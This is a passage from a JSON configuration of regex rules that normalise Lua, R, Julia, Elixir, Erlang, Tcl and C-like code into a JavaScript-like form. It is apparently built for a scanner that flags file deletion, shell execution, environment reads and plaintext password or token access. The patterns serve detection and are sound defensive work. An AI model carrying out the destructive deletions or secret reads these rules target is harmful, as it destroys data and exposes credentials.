-":"sql $0 | sql $1","update":"sql $0 | sql $1","batch_execute":"sql $0 | sql $1","simple_query":"sql $0 | sql $1"}}},"dialects":{"lua":{"comment":"--\\\\[\\\\[[\\\\s\\\
-\\S]*?\\\\]\\\\]|--[^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\\\\\n]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\\\\\n]|\\\\\\\\[\\\\s\\\\S])*)'|\\\\[\\\\[([\\\\s\\\\S]*?)\\\\]\\\\]","rewrites":[["lfs\\\\.(?:symlink)\
-?attributes\\\\s*\\\\(([^()]*)\\\\)(?:\\\\.mode)?\\\\s*[=~]=\\\\s*\\"\\\\d+\\"","isDirectory($1)"],["\\\\.\\\\.(?!\\\\.)","+"],["\\\\blocal\\\\s+(?=function\\\\b)",""],["\\\\blocal\\\\s+(\\\\w+(\
-?:\\\\s*,\\\\s*\\\\w+)+)\\\\s*=\\\\s*(\\"\\\\d+\\"(?:\\\\s*,\\\\s*\\"\\\\d+\\")+)","[$1] = [$2];"],["~=","!="],["\\\\b(os\\\\.(?:execute|remove|getenv)|io\\\\.(?:popen|open)|require)\\\\s*(\\\
-"\\\\d+\\")","$1($2)"],["([\\\\w)]):(\\\\w+)\\\\s*(?=\\\\()","$1.$2"],["(=\\\\s*|\\\\(\\\\s*|,\\\\s*|\\\\bin\\\\s+|\\\\breturn\\\\s+|\\\\{\\\\s*)\\\\{([^{};=]*)\\\\}","$1[$2]"],["(=\\\\s*|\\\\(\\\\s*|\\\
-\\breturn\\\\s+)\\\\{((?:[^{};=]|\\\\[[^\\\\]]*\\\\])*)\\\\}","$1[$2]"],["\\\\bfor\\\\s+(?:\\\\w+\\\\s*,\\\\s*)?(\\\\w+)\\\\s+in\\\\s+","for $1 of "],["\\\\bfunction\\\\b\\\\s*((?:\\\\w+\\\\.)*\\\\w+)?\
-\\\\s*(\\\\([^()]*\\\\))","function $1$2 {"],["function (?:\\\\w+\\\\.)+","function "],["\\\\b(?:then|do|repeat)\\\\b","{"],["\\\\belseif\\\\b","} else if"],["\\\\belse\\\\b","} else\
- {"],["\\\\b(?:end|until)\\\\b","}"]]},"r":{"comment":"#[^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)'","rewrites":[["\\\\b(?:libr\
-ary|require|suppressPackageStartupMessages)\\\\([^()]*\\\\);?",""],["\\\\brm\\\\s*\\\\(","forget("],["\\\\b(?:base|fs|httr2?|DBI|utils|tools|purrr|paws|yaml|jsonlite|readr)\
-::",""],["(?<=[\\\\w)\\\\]])\\\\$(?=[A-Za-z_.])","."],["\\\\bunlink\\\\b","rm_rf"],["\\\\bfile\\\\.exists\\\\b|\\\\bdir\\\\.exists\\\\b","isDirectory"],["<<?-","="],["(?:\\\\|>|%>%)\\\\s\
-*([\\\\w.]+)\\\\s*\\\\(",".$1("],["\\\\blist\\\\(\\\\s*\\\\w+\\\\s*=\\\\s*","list("],["([(,]\\\\s*)([\\\\w.]+)\\\\s*=(?!=)","$1$2: "],["(?<![\\\\w.])([\\\\w.]{1,60}) {0,4}= {0,4}function\\\\\
-s*\\\\(","function $1("],["(?:\\\\bfunction|\\\\\\\\)\\\\s*(\\\\([^()]*\\\\))\\\\s*(?!\\\\{)","$1 => "],["\\\\bfor\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s+in\\\\s","for ($1 of "],["\\\\bfile\\\\.path\\\\b","j\
-oin_path"],["\\\\bjoin_path\\\\(([^(),]*(?:\\\\([^()]*\\\\))?),\\\\s*(c\\\\([^()]*\\\\))\\\\)","$2.map((it) => join_path($1, it))"],["\\\\bpaste0\\\\(([^(),]*),\\\\s*([^(),]*)\\\\)","(\
-$1 + $2)"],["\\\\bpaste\\\\(([^(),]*),\\\\s*([^(),]*)\\\\)","($1 + \\" \\" + $2)"]]},"julia":{"comment":"#=[\\\\s\\\\S]*?=#|#[^\\\\n]*","texts":"\\"\\"\\"([\\\\s\\\\S]*?)\\"\\"\\"|(?:\\\\b\
-(?:raw|sql))?\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|\`([^\`]*)\`|(?<![\\\\w)\\\\]])'((?:[^'\\\\\\\\]|\\\\\\\\.)*)'","inserts":"\\\\$\\\\(?([\\\\w.]+(?:\\\\([^()]*\\\\))?)\\\\)?","rewrites":[["\
-^[ \\\\t]*(?:using|import)\\\\b[^\\\\n;]*",""],["(\\\\w)!(?=\\\\()","$1"],["\\\\bforeach\\\\(","map("],["\\\\b(\\\\w+)\\\\.\\\\(([^(),]*(?:\\\\(\\\\))?),\\\\s*(\\\\[[^\\\\[\\\\]]*\\\\])\\\\)","$3.ma\
-p((it) => $1($2, it))"],["\\\\.\\\\(","("],["\\\\b(?:Base|Base\\\\.Filesystem|FilePathsBase)\\\\.(?=\\\\w)",""],["\\\\bmktempdir\\\\(\\\\s*\\\\)\\\\s+do\\\\s+(\\\\w+)","$1 = mktempdir();\
-"],[";\\\\s*(?=(?:recursive|force|join|dir|onerror)\\\\s*=)",", "],["([(,]\\\\s*)(\\\\w+)\\\\s*=(?!=)","$1$2: "],["\\\\|>\\\\s*([\\\\w.]+)",".$1()"],["\\\\bstring\\\\(([^(),]*),\\\\s\
-*([^(),]*),\\\\s*([^(),]*)\\\\)","($1 + $2 + $3)"],["\\\\bstring\\\\(([^(),]*),\\\\s*([^(),]*)\\\\)","($1 + $2)"],["(\\"\\\\d+\\")\\\\s*\\\\*\\\\s*(?=[\\\\w\\"])","$1 + "],["([\\\\w)])\\\\s\
-\\\\*\\\\s(?=\\")","$1 + "],["(?:\\\\((\\\\w+(?:\\\\s*,\\\\s*\\\\w+)*)\\\\)|\\\\b(\\\\w+))\\\\s*->\\\\s*","($1$2) => "],["\\\\bfor\\\\s+\\\\(?(\\\\w+)(?:\\\\s*,\\\\s*\\\\w+)*\\\\)?\\\\s+(?:in|=|\\u2208)\\\\\
-s+([^\\\\n;,()]*(?:\\\\([^()]*(?:\\\\([^()]*\\\\))?[^()]*\\\\))?[^\\\\n;,()]*),\\\\s*(\\\\w+)\\\\s+(?:in|\\u2208)\\\\s+\\\\w+","for ($1 of $2) $3 = $1;"],["\\\\bfor\\\\s+(?:\\\\(\\\\w+\\\\s*,[^\
-()]*,\\\\s*(\\\\w+)\\\\)|(\\\\w+))\\\\s+(?:in|=|\\u2208)\\\\s+([^\\\\n;,()]*(?:\\\\([^()]*(?:\\\\([^()]*\\\\))?[^()]*\\\\))?[^\\\\n;,()]*)","for ($1$2 of $3);"],["^([ \\\\t]*)([\\\\w.]+)(\\\\\
-([^()=]*\\\\))\\\\s*=(?!=)\\\\s*([^\\\\n]*)","$1function $2$3 { $4 }"],["\\\\bfunction\\\\s+(\\\\w+\\\\s*\\\\([^()]*\\\\))","function $1 {"],["^end\\\\b","}"]]},"elixir":{"comment":"\
-#[^\\\\n{][^\\\\n]*|\\"(?:doc|cover)\\"","texts":"(?:~[sS])?\\"\\"\\"([\\\\s\\\\S]*?)\\"\\"\\"|~[sS]?\\"((?:[^\\"\\\\\\\\]|\\\\\\\\.)*)\\"|\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\]|\
-\\\\\\\\.)*)'|~[sS]\\\\(([^()]*)\\\\)|(?<=~w)[(\\\\[{|/\\"]([^)\\\\]}|/\\"]*)[)\\\\]}|/\\"]a?","inserts":"#\\\\{([^{}]*)\\\\}","rewrites":[["\\\\{:ok, ?(\\\\w+)\\\\} ?=(?!=)","$1 ="],["~w\
-(\\"\\\\d+\\")","words($1)"],["\\\\bdelete_all\\\\b(?:(?<=\\\\bwhere\\\\b[^\\\\n;]{0,999})|(?=[^\\\\n;]{0,999}\\\\bwhere\\\\b))","delete_some"],["^[ \\\\t]*(?:alias|import|use|requir\
-e)\\\\b[^\\\\n;]*",""],["(\\\\w)[!?](?=[\\\\s(/)])","$1"],["<>","+"],["&([\\\\w.:]+)/1","(it) => $1(it)"],["&([\\\\w.:]+)/\\\\d","$1"],["&\\\\(([^()&]*(?:\\\\([^()]*\\\\))?)&1([^()\
-]*)\\\\)","(it) => ($1it$2)"],["&([\\\\w.:]+\\\\([^()&]*)&1([^()]*\\\\))","(it) => $1it$2"],["\\\\bfn\\\\s+\\\\(?([\\\\w, ]*)\\\\)?\\\\s*->\\\\s*([^\\\\n]{0,300}?)\\\\bend\\\\b","($1) => {\
- $2 }"],["\\\\bfn\\\\s+\\\\(?([\\\\w, ]*)\\\\)?\\\\s*->","($1) =>"],["\\\\bEnum\\\\.each\\\\(([^()]*(?:\\\\([^()]*\\\\))?),\\\\s*","$1.forEach("],["\\\\|>\\\\s*:?(?:Enum|Stream)\\\\.each\\\\b"\
-,".forEach"],["\\\\|>\\\\s*:?(?:\\\\w+\\\\.)*(\\\\w+)\\\\(",".$1("],["\\\\|>\\\\s*:?(?:\\\\w+\\\\.)*(\\\\w+)",".$1()"],["(?<!\\\\w):(?=[a-z]\\\\w*\\\\.\\\\w)",""],["\\\\bfor\\\\s+(\\\\w+)\\\\s*<-\\\\s\
-*(.*?)\\\\s*(?:,\\\\s*do:|\\\\bdo$)","for ($1 of $2);"],["\\\\bdefp?\\\\s+(\\\\w+)\\\\s*,\\\\s*do:\\\\s*([^\\\\n]*)","function $1() { $2 }"],["\\\\bdefp?\\\\s+(\\\\w+)\\\\s*(\\\\([^()]*\\\\))\\\
-\\s*,\\\\s*do:\\\\s*([^\\\\n]*)","function $1$2 { $3 }"],["\\\\bdefp?\\\\s+(\\\\w+)\\\\s+do\\\\b","function $1() {"],["\\\\bdefp?\\\\s+(\\\\w+)\\\\s*(\\\\([^()]*\\\\))\\\\s*do\\\\b","function $\
-1$2 {"],["^ {0,2}end\\\\b","}"],["\\\\{(\\\\w+),\\\\s*\\\\w+\\\\}\\\\s*=","$1 ="]]},"erlang":{"comment":"%[^\\\\n]*|^#![^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:\
-[^'\\\\\\\\]|\\\\\\\\.)*)'","rewrites":[["\\\\b([a-z]\\\\w*):([a-z]\\\\w*)\\\\(","$1.$2("],["\\\\brpc\\\\.call\\\\([^,]*,\\\\s*(\\\\w+)\\\\s*,\\\\s*(\\\\w+)\\\\s*,\\\\s*\\\\[","$1.$2(["],["\\\\bhttpc\\\
-\\.request\\\\(\\\\s*(\\\\w+)\\\\s*,\\\\s*\\\\{","httpc_$1("],["\\\\[((?:[^\\\\[\\\\]|]|\\\\[[^\\\\[\\\\]]*\\\\])*)\\\\|\\\\|\\\\s*(\\\\w+)\\\\s*<-\\\\s*(\\\\[[^\\\\[\\\\]]*\\\\]|[^\\\\[\\\\],]+)\\\\]","; for ($2 \
-of $3); $1;"],["\\\\bfun\\\\s*\\\\(([^()]*)\\\\)\\\\s*->\\\\s*((?:[^,()\\\\n]|\\\\([^()\\\\n]*(?:\\\\([^()\\\\n]*\\\\)[^()\\\\n]*){0,4}\\\\)){1,300}?)\\\\bend\\\\b","($1) => $2"],["\\\\+\\\\+","+"\
-],["(?:\\\\{\\\\w{1,40},[ \\\\t]*){1,4}\\\\{?(?:_\\\\w{0,40},[ \\\\t]*){0,4}(\\\\w+)\\\\}{1,4}\\\\s*=","$1 ="]]},"named":{"comment":"//[^\\\\n]*|/\\\\*[\\\\s\\\\S]*?\\\\*/|^[ \\\\t]*#(?!defi\
-ne\\\\b)[^\\\\n]*|^[ \\\\t]*@\\\\w+(?:\\\\([^()\\\\n]*\\\\))?","texts":"\\"\\"\\"([\\\\s\\\\S]*?)\\"\\"\\"|(?:\\\\b[fsru]{1,2})?#*\\"((?:[^\\"\\\\\\\\\\\\n]|\\\\\\\\\\\\([^()\\\\n]*(?:\\\\([^()\\\\n]*\\\\))?\\\
-\\)|\\\\\\\\[\\\\s\\\\S])*)\\"#*|(?<![&<\\\\w] ?)'((?:[^'\\\\\\\\\\\\n]|\\\\\\\\.)*)'|\`([^\`]*)\`","inserts":"(?:\\\\$\\\\{?|\\\\\\\\\\\\(|\\\\{(?=\\\\w+\\\\}))([A-Za-z_][\\\\w.]*(?:\\\\([^()]*\\\\))?)[})]?\
-","rewrites":[["(\\"\\\\d+\\"|\\\\b(?:Seq|Process|List)\\\\([^()]*\\\\))\\\\s*\\\\.?\\\\s*!{1,2}(?![=\\\\w(\\\\[])","$1.execute()"],["^[ \\\\t]*(?:import|use|using|package|library|pa\
-rt)\\\\s*\\\\([^()]*\\\\)",""],["(?<=^|;)[ \\\\t]*(?:pub\\\\s+)?(?:import|use|using|package|library|part)\\\\s+[^\\\\n;(]*(?:;|$)",""],["^[ \\\\t]*#define\\\\s+(\\\\w+)[ \\\\t]+","$1\
- = "],["::<[^<>()]*>",""],["::","."],["\\\\?(?=\\\\s*[;.,){\\\\n])|!!(?=[.,)])|\\\\?(?=\\\\.\\\\w)|(?<=[\\\\w)\\\\]])!(?=[\\\\s.,;)\\\\]])",""],["->d_name\\\\b",""],["\\\\breaddir\\\\((\\\
-\\w+)\\\\)","any_of(readdir($1))"],["\\\\.(?:file|directory)(?=\\\\s*[)&|])",".isFile"],["\\\\b(\\\\w+)!\\\\s*(?=[(\\\\[])","$1"],["\\\\bvec\\\\[","["],["\\\\b(?:System|env|Deno)\\\\.\
-(?:getProperty|getenv|var|var_os)\\\\(\\"\\\\d+\\"\\\\)\\\\.(?:unwrap|expect|unwrap_or_default)\\\\([^()]*\\\\)","$&"],["\\\\.(?:for_each|try_for_each|foreach|forEachOrdered|ea\
-ch|forEachIndexed)\\\\b",".forEach"],["\\\\b(?:let|var|val)\\\\s+(?:mut\\\\s+)?(?=\\\\w+\\\\s*(?::[^=\\\\n]*)?=(?!=))",""],["\\\\.(?:path|name|Name|getName|file_name|filename)\\\
-\\(\\\\)",""],["\\\\.(?:(?:password|secret|apiToken)\\\\.)?plainText\\\\b",".getPlainText()"],["\\\\.(?:where|findAll|filterNot|filterNotNull|takeWhile|withFilter)\\\\b",".f\
-ilter"],["\\\\.(?:collect|mapNotNull|flatMap|filter_map|compactMap)(?=\\\\s*(?:\\\\(?\\\\s*\\\\{|\\\\(\\\\s*[|(\\\\w]))",".map"],["(?<![\\\\w.])(?:\\\\w{1,40}\\\\.){0,6}(?:Uri|URI|UR\
-L|Url)\\\\.(?:unsafeParse|parse|apply|create|new)\\\\(","URI("],["\\\\.(?:absolutePath|canonicalPath|fullPath|path|absolute)\\\\b(?!\\\\s*\\\\()",""],["\\\\bRuntime\\\\.(?:getR\
-untime\\\\(\\\\)|runtime)","Runtime"],["(?:Jenkins|hudson\\\\.model\\\\.Hudson)\\\\.(?:instance|get\\\\(\\\\)|getInstance\\\\(\\\\)|instanceOrNull)\\\\.(?:getA|a)?(?:llItems|items|\
-getItems)\\\\b(?:\\\\([^()]*\\\\))?","jenkinsItems()"],["(?<=^[ \\\\t]{0,40}|[;{}] {0,4})(\\\\w+)\\\\.(args?|addAll|add|push|append)\\\\(","$1 = $1.$2("],["\\\\.(?:Generation|I\
-f|Retryer)\\\\((?:[^()]|\\\\([^()]*\\\\)){0,80}\\\\)",""],["\\\\.([A-Z]\\\\w+)\\\\((?:\\"\\\\d+\\"|[\\\\w.]*)\\\\)\\\\.(Delete|DeleteCollection)\\\\(",".$1.Delete("],["\\\\.(map|forEach|fi\
-lter)\\\\((\\\\w[\\\\w.]*)\\\\(_\\\\)\\\\)",".$1((it) => $2(it))"],["\\\\bfor\\\\s+_\\\\s*,\\\\s*(\\\\w+)\\\\s*:?=\\\\s*range\\\\s+","for $1 of "],["\\\\bfor\\\\s+(\\\\w+)\\\\s*,\\\\s*(\\\\w+)\\\\s*:?=\\\
-\\s*range\\\\s+([^{\\\\n]*(?:\\\\{[^{}]*\\\\}+)?)\\\\s*\\\\{","for $1 of $3 { $2 = $1;"],["\\\\bfor\\\\s+(\\\\w+)\\\\s*:?=\\\\s*range\\\\s+","for $1 of "],["\\\\[(?:\\\\d+|\\\\.\\\\.\\\\.)?\\\\](?:\
-\\\\*?[\\\\w.]+|\\\\[\\\\][\\\\w.]+)\\\\{([^{}]*)\\\\}","[$1]"],["\\\\bfor\\\\s*[({]?\\\\s*(\\\\w+)\\\\s*<-\\\\s*","for $1 of "],["\\\\b(?:fun|func|fn|def)\\\\s+(?:<[^<>]*>\\\\s*)?(?:\\\\([^()]*\
-\\\\)\\\\s*)?(?:[\\\\w<>]+\\\\.)*(\\\\w+)(?:<[^<>()]*>|\\\\[[^\\\\[\\\\]()]*\\\\])?\\\\s*\\\\(","function $1("],["\\\\bfunc\\\\s*\\\\(","function("],["&?\\\\b\\\\w+\\\\.[A-Z]\\\\w*\\\\{(?=\\\\s*[A-Z]\\\
-\\w*\\\\s*:)","{"],["(function \\\\w+\\\\([^()]*(?:\\\\([^()]*\\\\))?[^()]*\\\\))[^={\\\\n]*=\\\\s*\\\\{","$1 {"],["(function \\\\w+\\\\([^()]*(?:\\\\([^()]*\\\\))?[^()]*\\\\))[^={\\\\n]*=\\\\s\
-*(?=[^\\\\s{>=])([^\\\\n]*)","$1 { return $2 }"],["\\\\b(?:val|mut|lazy|defer|go|await|unsafe|private|public|internal|override|static|inline|suspend|open|try)\\\\b[?!]?\
-\\\\s+(?=[\\\\w\\"\\\\[(&*])",""],["^([ \\\\t]*(?:if\\\\s+|var\\\\s+)?)(\\\\w+)[ \\\\t]*,[ \\\\t]*\\\\w+[ \\\\t]*(:?=)(?!=)","$1$2 $3"],["([(,=]\\\\s*(?:move\\\\s+)?)\\\\|([^|\\\\n]*)\\\\|\\\\s*(\
-?:->\\\\s*[^{\\\\n]*)?","$1($2) => "],["\\\\{\\\\s*\\\\(?(\\\\w+(?:\\\\s*,\\\\s*\\\\w+)*)\\\\)?\\\\s*(?:->|=>|\\\\bin\\\\b)(?=\\\\s)","{|$1|"],["(\\\\.\\\\w+)\\\\s*\\\\{\\\\s*\\\\|","$1() {|"],["(?<!^\
-[ \\\\t]*(?:\\\\}[ \\\\t]*)?(?:for|if|else|while|switch|match|guard|catch|function|class|extension|struct|impl|interface|enum|object)\\\\b[^\\\\n]{0,300})(\\\\.\\\\w+)\\\\s+\\\\{\
-(?!\\\\s*\\\\|)","$1() {|it|"],["(?<!^[ \\\\t]*(?:\\\\}[ \\\\t]*)?(?:for|if|else|while|switch|match|guard|catch|function|class|extension|struct|impl|interface|enum|object\
-)\\\\b[^\\\\n]{0,300})(\\\\.\\\\w+\\\\([^()\\\\n]*\\\\))\\\\s*\\\\{(?!\\\\s*\\\\|)(?=[^{}]*(?:\\\\bit|\\\\$0)\\\\b)","$1 {|it|"],["\\\\.filter\\\\(\\\\)\\\\s*\\\\{\\\\|(\\\\w+)\\\\|([^{}]*)\\\\}",".filter((\
-$1) => $2)"],["[\\\\s\\\\S](?![\\\\s\\\\S])","$&\\nmain()"],["\\\\$0","it"],["\\\\(([^()\\\\n]*?)(?<![\\\\w.])_(?=\\\\s*[./)]|\\\\s*\\\\.\\\\w)","((it) => $1it"],["(\\"\\\\d+\\"|\\\\w|\\\\))\\\\s\
-+\\\\.\\\\/\\\\s+","$1 / "]]},"typed":{"comment":"//[^\\\\n]*|/\\\\*[\\\\s\\\\S]*?\\\\*/|^[ \\\\t]*#(?!define\\\\b)[^\\\\n]*|^[ \\\\t]*@\\\\w+(?:\\\\([^()\\\\n]*\\\\))?","texts":"\\"\\"\\"([\\\\s\\\\\
-S]*?)\\"\\"\\"|(?:\\\\b[rLu]{1,2})?\\"((?:[^\\"\\\\\\\\\\\\n]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\\\\\n]|\\\\\\\\.)*)'","inserts":"\\\\$\\\\{?([A-Za-z_][\\\\w.]*(?:\\\\([^()]*\\\\))?)\\\\}?","rewri\
-tes":[["^(?:script )?eval ",""],["^[ \\\\t]*(?:import|use|using|package|library|part)\\\\s*\\\\([^()]*\\\\)",""],["(?<=^|;)[ \\\\t]*(?:pub\\\\s+)?(?:import|use|using|packag\
-e|library|part)\\\\s+[^\\\\n;(]*(?:;|$)",""],["^[ \\\\t]*#define\\\\s+(\\\\w+)[ \\\\t]+","$1 = "],["::<[^<>()]*>",""],["::","."],["\\\\?(?=\\\\s*[;.,){\\\\n])|!!(?=[.,)])|\\\\?(?=\\\
-\\.\\\\w)|(?<=[\\\\w)\\\\]])!(?=[\\\\s.,;)\\\\]])",""],["->d_name\\\\b",""],["\\\\breaddir\\\\((\\\\w+)\\\\)","any_of(readdir($1))"],["\\\\.(?:file|directory)(?=\\\\s*[)&|])",".isFile"]\
-,["\\\\b(\\\\w+)!\\\\s*(?=[(\\\\[])","$1"],["\\\\bvec\\\\[","["],["\\\\b(?:System|env|Deno)\\\\.(?:getProperty|getenv|var|var_os)\\\\(\\"\\\\d+\\"\\\\)\\\\.(?:unwrap|expect|unwrap_or_def\
-ault)\\\\([^()]*\\\\)","$&"],["\\\\.(?:for_each|try_for_each|foreach|forEachOrdered|each|forEachIndexed)\\\\b",".forEach"],["\\\\b(?:let|var|val)\\\\s+(?:mut\\\\s+)?(?=\\\\w+\\\\\
-s*(?::[^=\\\\n]*)?=(?!=))",""],["\\\\.(?:path|name|Name|getName|file_name|filename)\\\\(\\\\)",""],["\\\\.(?:(?:password|secret|apiToken)\\\\.)?plainText\\\\b",".getPlainText\
-()"],["\\\\.(?:where|findAll|filterNot|filterNotNull|takeWhile|withFilter)\\\\b",".filter"],["\\\\.(?:collect|mapNotNull|flatMap|filter_map|compactMap)(?=\\\\s*(?:\\\\(?\\\
-\\s*\\\\{|\\\\(\\\\s*[|(\\\\w]))",".map"],["(?<![\\\\w.])(?:\\\\w{1,40}\\\\.){0,6}(?:Uri|URI|URL|Url)\\\\.(?:unsafeParse|parse|apply|create|new)\\\\(","URI("],["\\\\.(?:absolutePath\
-|canonicalPath|fullPath|path|absolute)\\\\b(?!\\\\s*\\\\()",""],["\\\\bRuntime\\\\.(?:getRuntime\\\\(\\\\)|runtime)","Runtime"],["(?:Jenkins|hudson\\\\.model\\\\.Hudson)\\\\.(?:ins\
-tance|get\\\\(\\\\)|getInstance\\\\(\\\\)|instanceOrNull)\\\\.(?:getA|a)?(?:llItems|items|getItems)\\\\b(?:\\\\([^()]*\\\\))?","jenkinsItems()"],["(?<=^[ \\\\t]{0,40}|[;{}] {0,4}\
-)(\\\\w+)\\\\.(args?|addAll|add|push|append)\\\\(","$1 = $1.$2("],["\\\\.(?:Generation|If|Retryer)\\\\((?:[^()]|\\\\([^()]*\\\\)){0,80}\\\\)",""],["\\\\.([A-Z]\\\\w+)\\\\((?:\\"\\\\d+\\"\
-|[\\\\w.]*)\\\\)\\\\.(Delete|DeleteCollection)\\\\(",".$1.Delete("],["\\\\bnew\\\\s+[\\\\w.]+\\\\[\\\\w*\\\\]\\\\s*\\\\{([^{}]*)\\\\}","[$1]"],["\\\\bnew\\\\s+(?=[A-Z])",""],["\\\\bprintln?[ \\\
-\\t]+(?=[\\\\w\\"])",""],["\\\\.(?:eachFileRecurse|eachDirRecurse|traverse)\\\\b(?:\\\\(\\\\w*\\\\))?(?=\\\\s*\\\\{)",".walk().forEach"],["\\\\.(?:eachFile|eachDir)\\\\b(?:\\\\(\\\\))?(?\
-=\\\\s*\\\\{)",".listFiles().forEach"],["\\\\bfor\\\\s*\\\\(\\\\s*(?:[\\\\w.\\\\[\\\\]<>]+[\\\\s&*]+)*(\\\\w+)\\\\s*:(?!:)\\\\s*","for ($1 of "],["(\\\\w|\\\\))\\\\.text\\\\s*=(?!=)\\\\s*([^\\\\n;}]\
-+)","$1.writeText($2)"],["(File\\\\([^()]*\\\\))\\\\s*<<\\\\s*(\\"\\\\d+\\")","$1.appendText($2)"],["\\\\b(?:final|static|public|private|protected|const|constexpr|auto|late|s\
-ynchronized|extern|inline|volatile|unsigned|try)\\\\b\\\\s*(?=[\\\\w\\"\\\\[(&*])",""],["\\\\bstruct\\\\s+(?=\\\\w+\\\\s*[*\\\\w])",""],["<(?:[\\\\w.?, \\\\[\\\\]]|<[\\\\w.?, ]*>)*>(?=\\\\s\
-*[\\\\w(\\\\[])",""],["\\\\bdef\\\\s+(\\\\w+)\\\\s*\\\\(","function $1("],["(^[ \\\\t]*|[;}{][ \\\\t]*)(?!(?:else|return|new|throw|function|case|await|yield|in|of|do)\\\\b)[A-Za-z_\
-][\\\\w.]*(?:\\\\[\\\\])*[\\\\s*&?]+(?!(?:if|for|while|switch|catch)\\\\b)(\\\\w+)\\\\s*\\\\(([^()]*)\\\\)\\\\s*(?:throws\\\\s+[\\\\w., ]+|async\\\\s*)?\\\\{","$1function $2($3) {"],["(?<!\
-[\\\\w.])(?!(?:else|return|new|throw|function|case|await|yield|in|of|assert|println|print|not|let|var)\\\\b)[A-Za-z_][\\\\w.]*(?:\\\\[\\\\])*(?:\\\\s*[*&?]+\\\\s*|\\\\s+)(?!(?:\
-in|of|instanceof|is|as)\\\\b)(\\\\w+)(?:\\\\[\\\\w*\\\\])*(?=\\\\s*(?:[,);]|=(?!=)))","$1"],["(=\\\\s*|[(,]\\\\s*)\\\\{([^{};:]*)\\\\}","$1[$2]"],["\\\\bfor(?:each)?\\\\s*\\\\(\\\\s*[\\\\w.]\
-+\\\\s+(\\\\w+)\\\\s+in\\\\s+","for ($1 of "],["\\\\b(?:snprintf|sprintf_s)\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s*,[^,]*,","$1 = sprintf("],["\\\\bsprintf\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s*,(?=\\\\s*\\")","$\
-1 = sprintf("],["\\\\bstrn?cpy\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s*,","$1 = std.string("],["\\\\bstrn?cat\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s*,","$1 += std.string("],["\\\\s->\\\\s*(?=\\\\w|\\\\{|\\\\()"," \
-=> "],["\\\\{\\\\s*\\\\(?(\\\\w+(?:\\\\s*,\\\\s*\\\\w+)*)\\\\)?\\\\s*(?:->|=>|\\\\bin\\\\b)(?=\\\\s)","{|$1|"],["(\\\\.\\\\w+)\\\\s*\\\\{\\\\s*\\\\|","$1() {|"],["(?<!^[ \\\\t]*(?:\\\\}[ \\\\t]*)?(?:for\
-|if|else|while|switch|match|guard|catch|function|class|extension|struct|impl|interface|enum|object)\\\\b[^\\\\n]{0,300})(\\\\.\\\\w+)\\\\s+\\\\{(?!\\\\s*\\\\|)","$1() {|it|"],[\
-"(?<!^[ \\\\t]*(?:\\\\}[ \\\\t]*)?(?:for|if|else|while|switch|match|guard|catch|function|class|extension|struct|impl|interface|enum|object)\\\\b[^\\\\n]{0,300})(\\\\.\\\\w+\\\\\
-([^()\\\\n]*\\\\))\\\\s*\\\\{(?!\\\\s*\\\\|)(?=[^{}]*(?:\\\\bit|\\\\$0)\\\\b)","$1 {|it|"],["\\\\.filter\\\\(\\\\)\\\\s*\\\\{\\\\|(\\\\w+)\\\\|([^{}]*)\\\\}",".filter(($1) => $2)"],["[\\\\s\\\\S](?![\\\
-\\s\\\\S])","$&\\nmain()"],["\\\\$0","it"]]},"tcl":{"comment":"(?:^|;)[ \\\\t]*#[^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|\\\\[list\\\\s+([^\\\\[\\\\]$\\"{}]*)\\\\]|(?<=\
-\\\\b(?:set|foreach) {1,4}\\\\w{1,40} {1,4})\\\\{([^{}$\\\\[\\\\];]*)\\\\}|(?<=\\\\bset {1,4}\\\\w{1,40} {1,4})([\\\\w.~/-]+)|(?<=\\\\b(?:exec|spawn) {1,4}(?:--?\\\\w{1,20} {1,4}){0,\
-3})([^\\\\s\\\\[-][^\\\\n;\\\\]}]*)|(?<=(?:\\\\bfile {1,4}(?:delete|join|normalize|mkdir)|\\\\bglob|\\\\bopen)\\\\b[^\\\\n;\\\\]}\\\\[]{0,300} )(?!-)([$*~/.\\\\w][\\\\w./~*$-]*)","insert\
-s":"\\\\$\\\\{?(?:::)?([A-Za-z_]\\\\w*)\\\\}?","rewrites":[["\\\\$\\\\{?(?:::)?(\\\\w+)\\\\}?","$1"],["\\\\b(?:exec|spawn)\\\\s+(?:--?\\\\w+\\\\s+)*(\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\)|\\"\\\\d\
-+\\")","system($1)"],["\\\\[\\\\s*file\\\\s+(?:join|normalize)\\\\s+(\\\\S+)\\\\s+(\\\\S+?)\\\\s*\\\\]","join_path($1, $2)"],["\\\\[\\\\s*glob\\\\s+(?:-nocomplain\\\\s+|-types?\\\\s+\\\\S+\\\\s\
-+|--\\\\s+)*-dir(?:ectory)?\\\\s+(\\\\S+)\\\\s+(?:-\\\\w+\\\\s+)*(\\\\S+?)\\\\s*\\\\]","glob(join_path($1, $2))"],["\\\\[\\\\s*glob\\\\s+(?:-\\\\w+\\\\s+)*(\\\\S+?)\\\\s*\\\\]","glob($1)"],["\\\\b\
-file\\\\s+tempfile\\\\s+(\\\\w+)(?:\\\\s+\\\\w+)?","$1 = mktemp()"],["\\\\bfile\\\\s+delete\\\\s+(?:-force\\\\s+|--\\\\s+)*\\\\{\\\\*\\\\}([^\\\\n;\\\\]}]+)",";rm_rf(words($1))"],["\\\\bfile\\\\\
-s+delete\\\\s+(?:-force\\\\s+|--\\\\s+)*([^\\\\n;\\\\]}]+)",";rm_rf($1)"],["(\\\\brm_rf\\\\((?:\\"\\\\d+\\"|\\\\w+|\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\)))\\\\s+(?=[\\"\\\\w(])","$1); rm_rf("],[\
